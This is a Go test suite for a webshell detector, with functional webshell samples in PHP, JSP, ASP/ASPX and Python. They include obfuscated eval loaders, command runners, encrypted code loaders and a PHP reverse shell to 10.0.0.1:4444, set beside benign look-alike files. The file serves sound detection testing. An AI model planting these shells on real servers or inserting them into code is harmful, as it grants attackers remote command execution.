package webshell

import (
	"bytes"
	"compress/flate"
	"compress/zlib"
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/picket-cdr/picket/internal/analyzer"
	"github.com/picket-cdr/picket/internal/analyzer/analyzertest"
	"github.com/picket-cdr/picket/internal/finding"
)

// payload is PHP a packed webshell hides: a file manager and command runner
// padded to a realistic size.
func payload() string {
	var b strings.Builder
	b.WriteString(`<?php if(isset($_REQUEST['c'])){echo '<pre>'.shell_exec($_REQUEST['c']).'</pre>';} `)
	r := rand.New(rand.NewPCG(1, 2))
	for i := 0; i < 400; i++ {
		b.WriteString("function f")
		b.WriteString(strings.Repeat(string(rune('a'+r.IntN(26))), 1+r.IntN(6)))
		b.WriteString("($d){foreach(scandir($d) as $f){echo htmlspecialchars($f).'<br>';}} ")
	}
	return b.String()
}

func gzinflateB64(s string) string {
	var buf bytes.Buffer
	w, _ := flate.NewWriter(&buf, flate.BestCompression)
	w.Write([]byte(s))
	w.Close()
	return base64.StdEncoding.EncodeToString(buf.Bytes())
}

func gzcompressB64(s string) string {
	var buf bytes.Buffer
	w := zlib.NewWriter(&buf)
	w.Write([]byte(s))
	w.Close()
	return base64.StdEncoding.EncodeToString(buf.Bytes())
}

// shells are synthetic samples of common webshell families.
var shells = []struct {
	name, path, body string
	min              finding.Severity
	signal           string // a signal the verdict must include
}{
	{"china chopper php", "/var/www/html/x.php", `<?php @eval($_POST['x']);?>`, finding.Critical, "request-to-sink"},
	{"china chopper php uppercase", "/var/www/html/X.PHP", `<?php @EVAL($_POST["pass"]); ?>`, finding.Critical, "request-to-sink"},
	{"gif polyglot", "/var/www/uploads/avatar.php", "GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff<?php system($_GET['cmd']); ?>", finding.Critical, "request-to-sink"},
	{"wso-like chain", "/var/www/html/wp-content/uploads/wso.php", `<?php
$auth_pass = "63a9f0ea7bb98050796b649e85481845";
$color = "#df5";
$default_action = 'FilesMan';
$default_use_ajax = true;
$default_charset = 'Windows-1251';
preg_replace("/.*/e","\x65\x76\x61\x6C\x28\x67\x7A\x69\x6E\x66\x6C\x61\x74\x65\x28\x62\x61\x73\x65\x36\x34\x5F\x64\x65\x63\x6F\x64\x65\x28'` + gzinflateB64(payload()) + `'\x29\x29\x29\x3B",".");
?>`, finding.Critical, "hidden-name"},
	{"gzinflate base64 eval", "/var/www/html/index2.php", `<?php eval(gzinflate(str_rot13(base64_decode('` + gzinflateB64(payload()) + `')))); ?>`, finding.Critical, "decode-to-eval"},
	{"b374k loader", "/var/www/html/b.php", `<?php $func="cr"."eat"."e_fun"."cti"."on";$x=$func('$x','ev'.'al'.'("?>".gz'.'un'.'com'.'pre'.'ss(ba'.'se'.'64'.'_de'.'co'.'de($x)));');$x("` + gzcompressB64(payload()) + `");?>`, finding.Critical, "hidden-name"},
	{"chr concatenation", "/var/www/html/c.php", `<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f($_GET['c']); ?>`, finding.Critical, "hidden-name"},
	{"escaped superglobal", "/var/www/html/e.php", `<?php $k="\x5f\x50\x4f\x53\x54"; $v=${$k}['z']; eval($v); ?>`, finding.High, "hidden-name"},
	{"request called as function", "/var/www/html/f.php", `<?php $_GET['a']($_GET['b']); ?>`, finding.Critical, "request-calls-function"},
	{"callback by name", "/var/www/html/m.php", `<?php array_map('assert', (array)$_REQUEST['q']); ?>`, finding.Critical, "dangerous-callback"},
	{"call_user_func from request", "/var/www/html/u.php", `<?php call_user_func($_POST['f'], $_POST['a']); ?>`, finding.High, "request-calls-function"},
	{"preg_replace e", "/var/www/html/p.php", `<?php preg_replace('/.*/e', $_POST['code'], ''); ?>`, finding.Critical, "request-to-sink"},
	{"backticks", "/var/www/html/t.php", "<?php echo `{$_GET['c']} 2>&1`; ?>", finding.Critical, "request-to-sink"},
	{"tainted variable", "/var/www/html/v.php", `<?php
$cmd = isset($_POST['cmd']) ? $_POST['cmd'] : 'id';
$out = array();
exec($cmd . ' 2>&1', $out);
echo implode("\n", $out);
?>`, finding.High, "request-to-sink"},
	{"php reverse shell", "/tmp/rs.php", `<?php
// php-reverse-shell - A Reverse Shell implementation in PHP
set_time_limit (0);
$ip = '10.0.0.1'; $port = 4444; $shell = 'uname -a; w; id; /bin/sh -i';
$sock = fsockopen($ip, $port, $errno, $errstr, 30);
$descriptorspec = array(0 => array("pipe", "r"), 1 => array("pipe", "w"), 2 => array("pipe", "w"));
$process = proc_open($shell, $descriptorspec, $pipes);
?>`, finding.Critical, "reverse-shell"},
	{"jsp cmd", "/usr/local/tomcat/webapps/ROOT/cmd.jsp", `<%@ page import="java.util.*,java.io.*"%>
<HTML><BODY>
<FORM METHOD="GET" NAME="myform" ACTION="">
<INPUT TYPE="text" NAME="cmd">
<INPUT TYPE="submit" VALUE="Send">
</FORM>
<pre>
<%
if (request.getParameter("cmd") != null) {
        out.println("Command: " + request.getParameter("cmd") + "<BR>");
        Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));
        OutputStream os = p.getOutputStream();
        InputStream in = p.getInputStream();
        DataInputStream dis = new DataInputStream(in);
        String disr = dis.readLine();
        while ( disr != null ) {
                out.println(disr);
                disr = dis.readLine();
        }
}
%>
</pre>
</BODY></HTML>`, finding.Critical, "request-to-sink"},
	{"jsp processbuilder", "/usr/local/tomcat/webapps/ROOT/pb.jsp", `<%@ page import="java.io.*" %><%
String c = request.getParameter("c");
if (c != null) {
  ProcessBuilder pb = new ProcessBuilder("/bin/sh", "-c", c);
  pb.redirectErrorStream(true);
  Process p = pb.start();
  BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
  String line; while ((line = r.readLine()) != null) { out.println(line); }
}
%>`, finding.Critical, "request-to-sink"},
	{"class loader jsp", "/usr/local/tomcat/webapps/ROOT/status.jsp", `<%@ page import="javax.crypto.Cipher,javax.crypto.spec.SecretKeySpec" %><%!
static class Loader extends ClassLoader {
    Loader(ClassLoader parent) { super(parent); }
    Class<?> load(byte[] code) { return defineClass(null, code, 0, code.length); }
}
%><%
if ("POST".equals(request.getMethod())) {
    byte[] key = "0123456789abcdef".getBytes();
    Cipher aes = Cipher.getInstance("AES");
    aes.init(Cipher.DECRYPT_MODE, new SecretKeySpec(key, "AES"));
    String body = request.getReader().readLine();
    byte[] code = aes.doFinal(java.util.Base64.getDecoder().decode(body));
    new Loader(getClass().getClassLoader()).load(code).newInstance().equals(pageContext);
}
%>`, finding.High, "request-code-loading"},
	{"reflective assembly aspx", "/inetpub/wwwroot/health.aspx", `<%@ Page Language="C#" %><%
byte[] blob = System.Convert.FromBase64String(Request.Form["d"]);
var aes = System.Security.Cryptography.Aes.Create();
aes.Key = aes.IV = System.Text.Encoding.UTF8.GetBytes("0123456789abcdef");
blob = aes.CreateDecryptor().TransformFinalBlock(blob, 0, blob.Length);
var asm = typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { blob });
((System.Reflection.Assembly)asm).CreateInstance("P").Equals(Context);
%>`, finding.High, "request-code-loading"},
	{"xor asp execute", "/inetpub/wwwroot/ping.asp", `<%
key = "0123456789abcdef"
n = Request.TotalBytes
raw = Request.BinaryRead(n)
For i = 1 To n
  code = code & Chr(AscB(MidB(raw, i, 1)) Xor Asc(Mid(key, (i Mod 16) + 1, 1)))
Next
Execute code
%>`, finding.High, "request-to-sink"},
	{"base64 function name", "/var/www/html/n.php", `<?php $fn = base64_decode("c3lzdGVt"); echo $fn($_GET["q"]); ?>`, finding.Critical, "hidden-name"},
	{"create_function with base64 payload", "/var/www/html/cf.php", `<?php $h = create_function('', base64_decode('` +
		base64.StdEncoding.EncodeToString([]byte(`system($_REQUEST["c"]);`)) + `')); $h(); ?>`, finding.Critical, "decoded-payload"},
	{"gzinflate payload", "/var/www/html/gz.php", `<?php $p = '` + gzinflateB64(`passthru($_POST['x']);`) + `'; eval(gzinflate(base64_decode($p))); ?>`, finding.Critical, "decoded-payload"},
	{"aspx cmd", "/inetpub/wwwroot/cmd.aspx", `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    string c = Request.QueryString["c"];
    if (!String.IsNullOrEmpty(c)) {
        ProcessStartInfo psi = new ProcessStartInfo("cmd.exe", "/c " + c);
        psi.RedirectStandardOutput = true;
        psi.UseShellExecute = false;
        Process p = Process.Start(psi);
        Response.Write("<pre>" + Server.HtmlEncode(p.StandardOutput.ReadToEnd()) + "</pre>");
    }
}
</script>
<html><body><form runat="server"></form></body></html>`, finding.Critical, "request-to-sink"},
	{"aspx china chopper", "/inetpub/wwwroot/x.aspx", `<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>`, finding.Critical, "request-to-sink"},
	{"asp eval", "/inetpub/wwwroot/x.asp", `<%eval request("pass")%>`, finding.Critical, "request-to-sink"},
	{"asp execute", "/inetpub/wwwroot/y.asp", `<%
Dim code
code = Request.Form("code")
Execute(code)
%>`, finding.High, "request-to-sink"},
	{"asp wscript", "/inetpub/wwwroot/z.asp", `<%
Set sh = Server.CreateObject("WScript.Shell")
Set ex = sh.Exec("cmd.exe /c " & Request.QueryString("c"))
Response.Write(ex.StdOut.ReadAll())
%>`, finding.Critical, "request-to-sink"},
	{"python cgi", "/usr/lib/cgi-bin/status.py", `#!/usr/bin/env python3
import cgi, os
print("Content-Type: text/plain\n")
form = cgi.FieldStorage()
cmd = form.getvalue("cmd", "id")
print(os.popen(cmd).read())
`, finding.High, "request-to-sink"},
	{"python cgi extension", "/usr/lib/cgi-bin/run.cgi", `#!/usr/bin/python3
import cgi, subprocess
f = cgi.FieldStorage()
print("Content-Type: text/plain\n")
print(subprocess.check_output(f.getfirst("c"), shell=True).decode())
`, finding.High, "request-to-sink"},
	{"flask", "/app/app.py", `from flask import Flask, request
import subprocess
app = Flask(__name__)

@app.route("/debug")
def debug():
    return subprocess.check_output(request.args.get("c"), shell=True)
`, finding.Critical, "request-to-sink"},
	{"python exec base64", "/app/wsgi.py", `import base64, zlib
exec(zlib.decompress(base64.b64decode("` + gzcompressB64(strings.Repeat("import os\nos.system('id')\n", 200)+payload()) + `")))
`, finding.High, "decode-to-eval"},
}

func TestShells(t *testing.T) {
	for _, s := range shells {
		t.Run(s.name, func(t *testing.T) {
			res := analyzertest.Run(t, webshell{}, s.path, []byte(s.body))
			if len(res.Findings) != 1 {
				t.Fatalf("%d findings, want 1", len(res.Findings))
			}
			f := res.Findings[0]
			t.Logf("%s %s: %s | %s | evidence %q line %d", f.Severity, f.RuleID, f.Title, f.Attributes["signals"], f.Evidence, f.Location.Line)
			if f.Severity < s.min {
				t.Errorf("severity %s, want at least %s (score %s)", f.Severity, s.min, f.Attributes["score"])
			}
			if !strings.Contains(f.Attributes["signals"], s.signal+":") {
				t.Errorf("signals %s lack %s", f.Attributes["signals"], s.signal)
			}
			if f.RuleID != RuleID || f.Kind != finding.KindMalware || f.Location.Path != s.path || f.Evidence == "" ||
				len([]rune(f.Evidence)) > 161 || f.Location.Line < 1 || !contains(f.Tags, "T1505.003") {
				t.Errorf("finding %+v", f)
			}
		})
	}
}

func contains(ss []string, s string) bool {
	for _, x := range ss {
		if x == s {
			return true
		}
	}
	return false
}

// clean are files that look a little like webshells and are not.
var clean = []struct{ name, path, body string }{
	{"wordpress ajax", "/var/www/html/wp-admin/admin-ajax.php", `<?php
define( 'DOING_AJAX', true );
if ( ! defined( 'WP_ADMIN' ) ) { define( 'WP_ADMIN', true ); }
require_once dirname( __DIR__ ) . '/wp-load.php';
send_origin_headers();
if ( empty( $_REQUEST['action'] ) || ! is_scalar( $_REQUEST['action'] ) ) { wp_die( '0', 400 ); }
$action = $_REQUEST['action'];
if ( is_user_logged_in() ) {
	if ( ! has_action( "wp_ajax_{$action}" ) ) { wp_die( '0', 400 ); }
	do_action( "wp_ajax_{$action}" );
}
$args = array_map( 'sanitize_text_field', (array) $_POST['items'] );
usort( $args, 'strcmp' );
call_user_func_array( array( $this, 'handle' ), $args );
exec( 'git rev-parse HEAD', $out );
wp_die( '0' );
`},
	{"php docs in html", "/var/www/html/security.php", `<html><body>
<p>Never write code like <code>eval($_POST['x'])</code> or system($_GET['cmd']).</p>
<?php echo htmlspecialchars($_GET['q'] ?? ''); ?>
</body></html>`},
	{"php comment", "/var/www/html/c.php", `<?php
// Do not do this: eval($_GET['code']);
/* system($_POST['cmd']); */
# passthru($_REQUEST['x']);
$q = $_GET['q'];
echo htmlspecialchars($q);
`},
	{"php data uri", "/var/www/html/logo.php", `<?php
$id = (int)$_GET['id'];
$logo = 'data:image/png;base64,` + strings.Repeat("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg", 40) + `';
exec('convert -version', $v);
echo "<img src='$logo'>";
`},
	{"php lfi-free router", "/var/www/html/index.php", `<?php
$pages = ['home' => 'home.php', 'about' => 'about.php'];
$p = $_GET['p'] ?? 'home';
include __DIR__ . '/pages/' . ($pages[$p] ?? 'home.php');
$sql = "SELECT * FROM ` + "`users`" + ` WHERE id = " . intval($_GET['id']);
`},
	{"django view", "/app/views.py", `import subprocess
from django.http import HttpResponse

def status(request):
    """Run the health check.

    Never call os.system(request.GET['cmd']) here.
    """
    q = request.GET.get("q", "")
    out = subprocess.run(["systemctl", "is-active", "nginx"], capture_output=True).stdout
    return HttpResponse(out + q.encode())
`},
	{"python codec table", "/usr/lib/python3/encodings/cp_test.py", `decoding_table = (
    '\x00\x01\x02\x03\x04\x05\x06\x07\x08\t\n\x0b\x0c\r\x0e\x0f'
    '\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f'
    ' !"#$%&\'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\\]^_'
)
def run(src):
    return eval(compile(src, "<x>", "eval"))
`},
	{"jsp form", "/usr/local/tomcat/webapps/ROOT/hello.jsp", `<%@ page contentType="text/html" %>
<html><body>
<% String name = request.getParameter("name"); %>
<p>Hello <%= org.owasp.encoder.Encode.forHtml(name) %></p>
<script>eval("console.log(1)")</script>
</body></html>`},
	{"aspx form", "/inetpub/wwwroot/default.aspx", `<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    string q = Request.QueryString["q"];
    Label1.Text = Server.HtmlEncode(q);
}
</script>
<html><body><script>eval('1+1');</script><asp:Label id="Label1" runat="server"/></body></html>`},
	{"not php", "/etc/bind/zones.inc", `$ORIGIN example.com.
@ IN SOA ns1 hostmaster ( 1 3600 600 86400 300 )
; eval($_GET) in a comment of a zone file`},
	{"security plugin signature list", "/var/www/html/wp-content/plugins/scanner/sigs.php", `<?php
$signatures = array('FilesMan', 'b374k', 'c99shell', 'r57shell');
foreach ($signatures as $s) { if (strpos($content, $s) !== false) { $found[] = $s; } }
`},
}

func TestClean(t *testing.T) {
	for _, c := range clean {
		t.Run(c.name, func(t *testing.T) {
			res := analyzertest.Run(t, webshell{}, c.path, []byte(c.body))
			for _, f := range res.Findings {
				if f.Severity >= finding.High {
					t.Errorf("%s %s: %s [%s] %q", f.Severity, f.RuleID, f.Title, f.Attributes["signals"], f.Evidence)
				} else {
					t.Logf("%s %s: %s [%s]", f.Severity, f.RuleID, f.Title, f.Attributes["signals"])
				}
			}
		})
	}
}

func TestRequired(t *testing.T) {
	for p, want := range map[string]bool{
		"/var/www/html/index.php": true, "/x/Y.ASPX": true, "/app/main.py": true, "/usr/lib/cgi-bin/a.cgi": true,
		"/x/shell.jspx": true, "/x/a.phtml": true, "/x/readme.txt": false, "/x/php": false, "/x/a.pyc": false, "/x/a.js": false,
	} {
		if got := (webshell{}).Required(p, analyzertest.Info{Path: p, Length: 10, FMode: 0o644}); got != want {
			t.Errorf("Required(%s) = %v", p, got)
		}
	}
	if (webshell{}).Required("/x/a.php", analyzertest.Info{Path: "/x/a.php", Length: maxSize + 1, FMode: 0o644}) {
		t.Error("wants huge files")
	}
	if (webshell{}).Required("/x/a.php", analyzertest.Info{Path: "/x/a.php", Length: 0, FMode: 0o644}) {
		t.Error("wants empty files")
	}
}

// TestLargeFile checks that a file beyond the read window is scored on its
// head and tail and reported as truncated.
func TestLargeFile(t *testing.T) {
	pad := bytes.Repeat([]byte("<?php /* padding */ ?>\n"), (headSize+tailSize)/20)
	for _, where := range []string{"head", "tail"} {
		var body []byte
		if where == "head" {
			body = append([]byte(`<?php @eval($_POST['x']); ?>`+"\n"), pad...)
		} else {
			body = append(pad, []byte(`<?php @eval($_POST['x']); ?>`)...)
		}
		res := analyzertest.Run(t, webshell{}, "/var/www/big.php", body)
		if len(res.Findings) != 1 || res.Findings[0].Attributes["truncated"] != "true" {
			t.Errorf("%s: %+v", where, res.Findings)
		}
	}
}

// TestHostile feeds binary garbage and pathological text: no panic, bounded
// time (the fuzz target covers more).
func TestHostile(t *testing.T) {
	r := rand.New(rand.NewPCG(3, 4))
	garbage := make([]byte, 1<<20)
	for i := range garbage {
		garbage[i] = byte(r.IntN(256))
	}
	inputs := map[string][]byte{
		"garbage":      garbage,
		"open tags":    bytes.Repeat([]byte("<?php <?php ("), 100000),
		"parens":       append([]byte("<?php eval("), bytes.Repeat([]byte("("), 1<<20)...),
		"quotes":       bytes.Repeat([]byte(`<?php "'`+"`"), 200000),
		"heredoc":      bytes.Repeat([]byte("<?php <<<EOT\n"), 100000),
		"chr":          append([]byte("<?php "), bytes.Repeat([]byte("chr(101)."), 200000)...),
		"assignments":  append([]byte("<?php "), bytes.Repeat([]byte("$a=$_GET;$b=$a;"), 100000)...),
		"escapes":      append([]byte(`<?php $x="`), bytes.Repeat([]byte(`\x41`), 500000)...),
		"long line":    bytes.Repeat([]byte("A"), 3<<20),
		"nested jsp":   bytes.Repeat([]byte("<% <script runat=server> <jsp:scriptlet> \""), 50000),
		"python quote": bytes.Repeat([]byte(`"""'''#`), 300000),
	}
	for name, body := range inputs {
		for _, p := range []string{"/a.php", "/a.jsp", "/a.aspx", "/a.asp", "/a.py"} {
			in := analyzertest.Input(p, body, 0o644)
			if _, err := (webshell{}).Analyze(t.Context(), in); err != nil {
				t.Errorf("%s %s: %v", name, p, err)
			}
		}
	}
}

func FuzzPHP(f *testing.F) {
	analyzertest.Fuzz(f, webshell{}, "/var/www/x.php", seeds()...)
}

func FuzzJSP(f *testing.F) {
	analyzertest.Fuzz(f, webshell{}, "/app/x.jsp", seeds()...)
}

func FuzzASP(f *testing.F) {
	analyzertest.Fuzz(f, webshell{}, "/app/x.asp", seeds()...)
}

func FuzzPython(f *testing.F) {
	analyzertest.Fuzz(f, webshell{}, "/app/x.py", seeds()...)
}

func seeds() [][]byte {
	var out [][]byte
	for _, s := range shells {
		if len(s.body) < 4096 {
			out = append(out, []byte(s.body))
		}
	}
	for _, c := range clean {
		out = append(out, []byte(c.body))
	}
	return out
}

func BenchmarkAnalyze(b *testing.B) {
	var body []byte
	for _, c := range clean {
		body = append(body, c.body...)
	}
	for len(body) < 256<<10 {
		body = append(body, body...)
	}
	for _, p := range []string{"/a.php", "/a.py", "/a.jsp"} {
		b.Run(p[3:], func(b *testing.B) {
			b.SetBytes(int64(len(body)))
			for b.Loop() {
				if _, err := (webshell{}).Analyze(b.Context(), analyzertest.Input(p, body, 0o644)); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

var _ analyzer.Analyzer = webshell{}

// Each language builds its literal index once, however many files are
// scored: ASP pages get per-file copies of the language (with the lexer
// their page declares), and those copies share the original's index.
func TestLiteralIndexPerLanguage(t *testing.T) {
	for i := range 50 {
		body := []byte(fmt.Sprintf(`<%%@ Page Language="%s" %%><%% Response.Write(Request("x%d")) %%>`, []string{"VB", "C#"}[i%2], i))
		for _, p := range []string{"/srv/a.aspx", "/srv/b.asp", "/srv/c.php", "/srv/d.py"} {
			if l := langFor(p, body); l != nil {
				score(l, body)
			}
		}
	}
	n := 0
	indexes.Range(func(any, any) bool { n++; return true })
	if n > 4 {
		t.Errorf("%d literal indexes for 4 languages", n)
	}
}
